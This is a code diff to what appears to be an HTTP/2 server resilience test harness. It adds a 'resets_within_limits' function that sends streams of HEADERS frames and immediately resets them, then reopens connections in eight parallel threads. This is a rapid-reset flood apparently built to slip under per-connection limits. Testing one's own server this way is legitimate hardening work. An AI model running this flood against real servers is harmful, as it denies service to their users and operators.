@@ -93,6 +93,27 @@ def rapid_reset(port, scale):
     return flood(port, 16 * MEBIBYTE * scale, chunk)
 
 
+def resets_within_limits(port, scale):
+    """Resets as many calls as a connection may, then takes the next connection, eight at a time."""
+    chunk = b"".join(frame(1, 4, id, CALL) + frame(3, 0, id, b"\0\0\0\x08") for id in range(1, 391, 2))
+    end, counts = time.monotonic() + 4 + scale, []
+
+    def run():
+        count = 0
+        while time.monotonic() < end:
+            attacker = Attacker(port)
+            attacker.send(chunk)
+            attacker.close()
+            count += 1
+        counts.append(count)
+    threads = [threading.Thread(target=run) for _ in range(8)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    return f"{195 * sum(counts)} resets on {sum(counts)} connections"
+
+
 def continuation(port, scale):
     block = b"".join(b"\0" + text(b"x-%06d" % index) + text(b"v" * 100) for index in range(60))
     more = frame(9, 0, 1, block)
@@ -203,8 +224,8 @@ def readers(port, scale):
     return f"{len(attackers)} readers"
 
 
-ATTACKS = [rapid_reset, continuation, unacknowledged, header_bombs, pings, settings, silent, idle, slow, half_sent,
-           readers]
+ATTACKS = [rapid_reset, resets_within_limits, continuation, unacknowledged, header_bombs, pings, settings, silent, idle,
+           slow, half_sent, readers]
 
 
 class Caller(threading.Thread):
